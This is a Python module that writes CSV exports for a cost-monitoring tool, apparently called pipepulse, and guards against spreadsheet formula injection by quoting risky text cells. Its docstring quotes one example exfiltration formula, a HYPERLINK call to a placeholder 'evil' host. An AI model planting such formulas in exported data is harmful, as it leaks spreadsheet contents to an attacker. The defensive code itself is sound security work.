"""The one CSV writer: every CSV pipepulse hands out (the dashboard's downloads, ``costs daily
--format csv``, ``forecast`` and ``anomalies scan`` output) is written here.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some, tab or
carriage return) as a formula, and names, tags and services come from cost imports and AWS
answers that anyone with tagging rights can set (``=HYPERLINK("http://evil/?"&A1)``). Following
OWASP's rule for CSV injection, such a text cell is written with a leading ``'``, which the
spreadsheet shows as text. Numbers stay numbers: an ``int`` or ``float`` is written as is, and so
is text that is exactly a number (``-12.5``, ``1e-3``), which no spreadsheet reads as a formula.
Escape sequences and control characters are removed from every text cell
(``redact.terminal_text``: a NUL or a terminal escape has no business in a report, and CSV output
often lands in a terminal).

``rows`` are sequences of plain values (str, int, float, bool, None, dates); ``None`` and NaN
are written as empty cells, dates and times in ISO 8601.
"""

from __future__ import annotations

import csv
import io
import math
import re
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from typing import IO, Any

from pipepulse.redact import terminal_text

__all__ = ["FORMULA_STARTS", "csv_bytes", "csv_cell", "write_csv"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def csv_cell(value: Any) -> str | int | float:
    """One value as a safe CSV cell (see the module docstring)."""
    if value is None or type(value).__name__ in ("NaTType", "NAType"):  # pandas' missing values
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int):
        return value
    if isinstance(value, float):
        return "" if math.isnan(value) else value
    if isinstance(value, datetime | date):
        return value.isoformat()
    if hasattr(value, "item") and not isinstance(value, str):  # numpy scalars
        return csv_cell(value.item())
    text = terminal_text(str(value))
    if text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def write_csv(out: IO[str], header: Sequence[str], rows: Iterable[Sequence[Any]]) -> int:
    """Write ``header`` and ``rows`` to ``out`` (opened with ``newline=""``); returns the rows written."""
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow([csv_cell(h) for h in header])
    n = 0
    for row in rows:
        writer.writerow([csv_cell(v) for v in row])
        n += 1
    return n


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
    """``write_csv`` into UTF-8 bytes (a download)."""
    buf = io.StringIO()
    write_csv(buf, header, rows)
    return buf.getvalue().encode("utf-8")
